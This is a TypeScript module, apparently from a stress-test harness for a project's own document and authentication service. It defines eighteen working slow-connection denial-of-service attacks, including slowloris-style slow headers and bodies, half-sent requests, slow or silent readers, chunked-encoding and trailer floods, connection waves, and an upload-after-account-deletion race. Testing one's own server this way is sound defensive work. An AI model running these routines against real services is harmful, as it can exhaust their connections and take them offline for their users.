import type { Socket } from 'node:net'
import { type Attack, bearer, get, gone, HOST, MIX_MS, open, post, repeat, type Target, wait } from './attack.js'

const BODY_BYTES = 65_500
const READERS = 40
const PIPELINED = 32

const documentOf = ({ tokens: [token = ''], documentId }: Target): string =>
  get(`/api/documents/${documentId}`, bearer(token))

/** Keeps so many sockets busy for as long as the signal lets it; each is made anew where the service cuts it off. */
async function keep (target: Target, count: number, use: (socket: Socket) => Promise<unknown>, addresses = 1) {
  const { port, signal } = target
  await Promise.all(repeat(count, async (index) => {
    // Not all in one instant: the system's own queue of connections is not what is looked at.
    await wait(index / 4, signal)
    while (!signal.aborted) {
      const socket = open(port, addresses > 1 ? `127.6.0.${1 + index % addresses}` : undefined)
      await use(socket)
      socket.destroy()
      await wait(200, signal)
    }
  }))
}

/** All of a body but its end. */
const halfBody = (path: string, headers = ''): string =>
  `POST ${path} HTTP/1.1\r\n${HOST}Content-Type: application/json\r\n${headers}Content-Length: ${BODY_BYTES}\r\n\r\n` +
  `{"flow_id":"0b9e7c52-6a0f-4d6e-9d5b-6c0c1f7f3a11","x":"${'a'.repeat(BODY_BYTES - 200)}`

const halfBodies = (path: string) => (target: Target) =>
  keep(target, target.sockets, async (socket) => {
    socket.resume().write(halfBody(path, path === '/api/documents' ? bearer(target.tokens[2] ?? '') : ''))
    await gone(socket, target.signal)
    // Who is refused does not come back at once.
    await wait(5000, target.signal)
  })

/** Sends the bytes, then a few now and then for as long as it may. */
const trickle = (first: string, then: string, everyMs: number, sockets = 500) => (target: Target) =>
  keep(target, Math.min(target.sockets, sockets), async (socket) => {
    socket.resume().write(first)
    const timer = setInterval(() => socket.write(then), everyMs)
    await gone(socket, target.signal)
    clearInterval(timer)
  })

/** Takes 512 bytes every five seconds. */
const readSlowly = (request: (target: Target) => string) => (target: Target) =>
  keep(target, READERS, async (socket) => {
    socket.write(request(target))
    socket.once('readable', () => socket.read(512))
    const timer = setInterval(() => socket.read(512), 5000)
    await gone(socket, target.signal)
    clearInterval(timer)
  })

const readNothing = (request: (target: Target) => string) => (target: Target) =>
  keep(target, Math.min(target.sockets, 200), async (socket) => {
    socket.write(request(target))
    await Promise.race([gone(socket, target.signal), wait(2000, target.signal)])
  })

async function readAll (target: Target): Promise<void> {
  await keep(target, 8, async (socket) => {
    socket.resume()
    while (!socket.destroyed && !target.signal.aborted) {
      socket.write(documentOf(target).repeat(PIPELINED))
      await Promise.race([gone(socket, target.signal), wait(500, target.signal)])
    }
  })
}

/** A document whose end comes after the account has gone. */
const lateDocument = (target: Target) =>
  keep(target, 50, async (socket) => {
    const headers = bearer(target.tokens[3] ?? '')
    const whole = post('/api/documents', { title: 't', content: 'x'.repeat(20_000) }, headers)
    socket.resume().write(whole.slice(0, -20))
    open(target.port).resume().end(get('/api/auth/account', headers, 'DELETE'))
    await wait(300, target.signal)
    socket.end(whole.slice(-20))
    await Promise.race([gone(socket, target.signal), wait(1000, target.signal)])
  })

const WAVE = 1500

/** All begin a request together, and leave together in the middle of it. */
async function comeInWaves ({ port, signal }: Target): Promise<void> {
  while (!signal.aborted) {
    const sockets = repeat(WAVE, () => open(port).resume())
    await wait(300, signal)
    for (const socket of sockets) socket.write(`GET /health/alive HTTP/1.1\r\n${HOST}X-A: b`)
    await wait(300, signal)
    for (const socket of sockets) socket.end()
    await wait(300, signal)
    for (const socket of sockets) socket.destroy()
  }
}

const chunk = (bytes: number, extension = ''): string => `${bytes.toString(16)}${extension}\r\n${' '.repeat(bytes)}\r\n`
const chunked = (headers = ''): string =>
  `POST /api/auth/flows/login HTTP/1.1\r\n${HOST}Content-Type: application/json\r\n${headers}Transfer-Encoding: chunked\r\n\r\n`

/** What holds a socket of ours, or bytes for it. */
export const SOCKETS: Attack[] = [
  { name: 'the largest document 32 times', mayAdd: MIX_MS, run: readAll },
  { name: '40 slow readers of the largest document', mayAdd: MIX_MS, run: readSlowly((target) => documentOf(target).repeat(PIPELINED)) },
  { name: '40 slow readers of lists', mayAdd: MIX_MS, run: readSlowly(({ tokens: [token = ''] }) => get('/api/documents?limit=100', bearer(token)).repeat(PIPELINED)) },
  { name: '40 slow readers through the proxy', mayAdd: MIX_MS, run: readSlowly(() => get('/kratos/schemas/large').repeat(PIPELINED)) },
  { name: 'readers of nothing', mayAdd: MIX_MS, run: readNothing((target) => documentOf(target).repeat(PIPELINED)) },
  { name: 'half bodies', mayAdd: MIX_MS, run: halfBodies('/api/auth/flows/settings') },
  { name: 'half bodies through the proxy', mayAdd: MIX_MS, run: halfBodies('/kratos/self-service/login?flow=x') },
  { name: 'half documents', mayAdd: MIX_MS, run: halfBodies('/api/documents') },
  {
    name: 'idle sockets from 20 addresses',
    mayAdd: MIX_MS,
    run: (target) => keep(target, target.sockets, async (socket) => {
      socket.resume().write(get('/health/alive'))
      await gone(socket, target.signal)
    }, 20),
  },
  { name: 'silent sockets from 20 addresses', mayAdd: MIX_MS, run: (target) => keep(target, target.sockets, (socket) => gone(socket.resume(), target.signal), 20) },
  { name: 'waves of half headers', mayAdd: MIX_MS, run: comeInWaves },
  { name: 'slow headers', mayAdd: MIX_MS, run: trickle(`GET /health/alive HTTP/1.1\r\n${HOST}`, 'X-A: b\r\n', 1000) },
  { name: 'slow bodies', mayAdd: MIX_MS, run: trickle(halfBody('/api/auth/flows/login').slice(0, 2000), ' ', 500) },
  { name: 'chunks of one byte', mayAdd: MIX_MS, run: trickle(chunked(), chunk(1).repeat(500), 100, 100) },
  { name: 'chunk extensions', mayAdd: MIX_MS, run: trickle(chunked(), chunk(1, `;a=${'b'.repeat(1000)}`).repeat(15), 50) },
  { name: 'trailers', mayAdd: MIX_MS, run: trickle(`${chunked('Trailer: x\r\n')}${chunk(1)}0\r\n`, `x: ${'y'.repeat(1000)}\r\n`, 50) },
  { name: '100-continue', mayAdd: MIX_MS, run: trickle(halfBody('/api/auth/flows/login', 'Expect: 100-continue\r\n').slice(0, 200), '', 1000) },
  { name: 'documents of deleted accounts', mayAdd: MIX_MS, run: lateDocument },
]
